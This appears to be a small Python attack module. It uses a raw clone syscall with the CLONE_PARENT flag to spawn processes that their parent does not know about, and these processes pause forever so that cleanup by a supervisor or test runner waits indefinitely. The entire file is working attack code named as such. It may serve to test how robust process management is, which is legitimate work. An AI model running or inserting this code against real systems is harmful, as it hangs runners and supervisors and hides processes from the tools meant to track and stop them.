"""Give its parent a child that the parent does not know of, so that cleaning up waits for ever."""

import ctypes
import os
import signal

CLONE, CLONE_PARENT = {"x86_64": 56, "aarch64": 220}[os.uname().machine], 0x8000


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for _ in range(3):
        child = libc.syscall(ctypes.c_long(CLONE), *map(ctypes.c_long, (CLONE_PARENT | signal.SIGCHLD, 0, 0, 0, 0)))
        if child == 0:
            while True:
                signal.pause()
